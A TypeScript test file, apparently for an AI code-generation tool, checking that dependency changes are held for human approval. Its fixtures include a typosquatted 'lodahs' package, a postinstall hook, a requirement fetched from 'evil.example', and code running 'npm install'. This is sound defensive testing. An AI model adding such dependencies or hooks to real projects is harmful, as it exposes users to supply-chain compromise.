import assert from 'node:assert/strict';
import type { EditorSettings } from '../protocol/requests.ts';
import { ruleOf, runAct, withRule } from './actionSlice.ts';
import { answer } from './sampleSlice.ts';
import { neverAborted, type Slice, type SliceOptions } from './sliceWorkspace.ts';

const settings: Partial<EditorSettings> = { approval: 'auto' };
const manifest = '{\n  "type": "module",\n  "dependencies": {\n    "ms": "^2"\n  }\n}\n';

interface Held {
  readonly title: string;
  readonly target: string;
  readonly files: Readonly<Record<string, string>>;
  readonly answer: readonly string[];
  /** What a person is told; undefined: it lands by itself. */
  readonly says: RegExp | undefined;
}

const rows: readonly Held[] = [
  {
    title: 'a new dependency',
    target: 'package.json',
    files: { 'package.json': manifest },
    answer: [manifest.replace('"ms": "^2"', '"ms": "^2",\n    "lodahs": "^4"')],
    says: /package\.json:5: New dependency in dependencies: lodahs \^4\. Its name is nearly that of lodash/,
  },
  {
    title: 'an install script',
    target: 'package.json',
    files: { 'package.json': manifest },
    answer: [manifest.replace('"type"', '"scripts": { "postinstall": "node x.js" },\n  "type"')],
    says: /package\.json:2: New script postinstall, which runs without being asked for/,
  },
  {
    title: 'a requirement from an address',
    target: 'requirements.txt',
    files: { 'requirements.txt': 'attrs\n' },
    answer: ['attrs', 'x @ https://evil.example/x.whl'],
    says: /requirements\.txt:2: New dependency .*It comes from an address/,
  },
  {
    title: 'a manifest in which nothing is read',
    target: 'go.mod',
    files: { 'go.mod': 'module m\n' },
    answer: ['module m', '', 'go 1.22'],
    says: /go\.mod:1: The file is changed/,
  },
  {
    title: 'an import of a package that nobody knows',
    target: 'src/b.js',
    files: { 'package.json': manifest },
    answer: ["import x from 'ms-parse-fast';", 'export default x;'],
    says: /src\/b\.js:1: Unknown module: no manifest names ms-parse-fast/,
  },
  {
    title: 'an import of a package that the manifest names, of Node and of the folder',
    target: 'src/b.js',
    files: { 'package.json': manifest, 'lib/own.js': '' },
    answer: [
      "import ms from 'ms';",
      "import fs from 'fs';",
      "import 'node:path';",
      "import '../lib/own.js';",
      "import 'own';",
    ],
    says: undefined,
  },
  {
    title: 'an import of a package that is installed all the same',
    target: 'src/b.js',
    files: { 'package.json': manifest, 'node_modules/there/package.json': '{}' },
    answer: ["import there from 'there/deep.js';"],
    says: undefined,
  },
  {
    title: 'an import where no manifest is',
    target: 'src/b.mjs',
    files: {},
    answer: ["import x from 'anything';"],
    says: undefined,
  },
  {
    title: 'a Python module that nobody knows',
    target: 'app/b.py',
    files: {
      'pyproject.toml': '[project]\nname = "app"\ndependencies = ["PyYAML", "python-slugify"]\n',
      'app/own.py': '',
    },
    answer: [
      'import os, yaml',
      'from slugify import slugify',
      'from app.own import x',
      'import reqeusts_plus',
    ],
    says: /app\/b\.py:4: Unknown module: no manifest names reqeusts_plus/,
  },
  {
    title: 'a Go module that go.mod does not name',
    target: 'b.go',
    files: { 'go.mod': 'module example.org/m\n\nrequire example.org/a v1.0.0\n' },
    answer: [
      'package m',
      '',
      'import (',
      '\t"fmt"',
      '\t"example.org/a/sub"',
      '\t"example.org/m/own"',
      '\t"example.org/b"',
      ')',
    ],
    says: /b\.go:7: Unknown module: no manifest names example\.org\/b/,
  },
  {
    title: 'code that installs',
    target: 'src/b.js',
    files: { 'package.json': manifest },
    answer: ["import { spawnSync } from 'node:child_process';", "spawnSync('npm', ['install', 'x']);"],
    says: /src\/b\.js:2: It installs packages when it runs: `npm install`/,
  },
];

function withTarget(
  { target, files, answer: lines }: Held,
  use: (slice: Slice) => Promise<void>,
  options: Partial<SliceOptions> = {},
): Promise<void> {
  const rule = ruleOf('- type: generate', `  target: ${target}`, '  message: Do it.');
  return withRule(rule, use, { files, script: [answer(target, ...lines)], settings, ...options });
}

describe('what concerns installing', function () {
  this.timeout(60_000);

  for (const row of rows) {
    it(`${row.says === undefined ? 'is not' : 'is'} held: ${row.title}`, () =>
      withTarget(row, async (slice) => {
        const before = slice.read(row.target);
        const result = await runAct(slice);
        if (row.says === undefined) {
          assert.deepEqual([result.outcome, result.code], ['landed', 'ok'], result.message);
          return;
        }
        assert.deepEqual([result.outcome, result.code], ['refused', 'approval.dependencies'], result.message);
        assert.match(result.message, row.says);
        assert.equal(slice.read(row.target), before);
        assert.match(result.view?.assessment?.held.join('\n') ?? '', row.says);
      }));
  }

  const [row] = rows;
  if (row === undefined) throw new Error('no rows');

  it('lands once a person has seen the difference and said yes', async () => {
    const questions: { readonly summary: string; readonly showsDiff: boolean }[] = [];
    await withTarget(
      row,
      async (slice) => {
        const result = await runAct(slice);
        assert.deepEqual([result.outcome, result.code], ['landed', 'ok'], result.message);
        assert.match(slice.read(row.target) ?? '', /lodahs/);
        assert.deepEqual(
          questions.map(({ showsDiff }) => showsDiff),
          [true],
        );
        assert.match(questions[0]?.summary ?? '', /Needs your word: package\.json:5/);
      },
      {
        person: {
          decide: async (question) => {
            questions.push(question);
            return { accept: true, seen: true };
          },
        },
      },
    );
  });

  it('waits in an editor, shown as a difference, and lands when it is accepted', () =>
    withTarget(
      row,
      async (slice) => {
        const { engine } = slice.running;
        const waits = new Promise<string>((resolve) => {
          engine.onDidChangeView(({ runs }) => {
            const asks = runs.find(({ waitingOn }) => waitingOn === 'approval');
            if (asks !== undefined) void engine.approve(slice.root, [asks], true);
            const [run] = runs.filter(({ waitingOn }) => waitingOn === 'decision');
            if (run !== undefined) resolve(run.approval);
          });
        });
        const started = engine.runRule({ root: slice.root, rule: 'act', path: 'src/a.js' }, neverAborted);
        assert.equal(await waits, 'preview');
        assert.equal(slice.read(row.target), manifest);
        const { run } = await started;
        const decided = await engine.decide({ run, accept: true }, neverAborted);
        assert.ok(decided.ok, decided.message);
        assert.match(slice.read(row.target) ?? '', /lodahs/);
      },
      { interactive: true },
    ));

  it('is refused where a rule is about another file', () =>
    withRule(
      ruleOf('- type: generate'),
      async (slice) => {
        const result = await runAct(slice);
        assert.equal(result.code, 'proof.no-progress', result.message);
        assert.match(result.message, /only write the files that it names/);
        assert.equal(slice.read('package.json'), manifest);
      },
      { files: { 'package.json': manifest }, script: [answer('package.json', '{}')], settings },
    ));

  for (const target of [
    'package-lock.json',
    '.npmrc',
    'setup.py',
    'build.rs',
    'Makefile',
    '.vscode/package.json',
  ])
    it(`is no target of a rule: ${target}`, () =>
      withTarget({ ...row, target, files: {} }, async (slice) => {
        const result = await runAct(slice);
        assert.equal(result.code, 'action.bad-target', result.message);
        assert.equal(slice.read(target), undefined);
        assert.equal(slice.models.requests.length, 0);
      }));
});
